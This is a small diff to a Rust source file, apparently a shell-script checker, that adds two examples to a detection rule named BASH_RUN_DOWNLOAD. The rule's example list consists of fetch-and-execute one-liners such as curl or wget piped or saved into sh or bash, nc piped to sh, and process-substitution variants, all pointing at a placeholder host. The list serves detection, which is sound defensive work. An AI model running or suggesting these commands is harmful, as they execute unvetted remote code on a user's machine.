@@ -342,6 +342,8 @@ pub(in crate::check) static BASH_RUN_DOWNLOAD: Rule = Rule {
         "bash -c 'curl http://x | sh'\n",
         "ssh host 'curl http://x | sh'\n",
         "nc host 80 | sh\n",
+        "wget -q http://x/y.sh -P /tmp && bash /tmp/y.sh\n",
+        "curl -fsSLO http://x/y.sh; sh ./y.sh\n",
         "curl http://x > >(sh)\n",
         "curl http://x | tee >(sh)\n",
         "curl http://x | awk -f -\n",
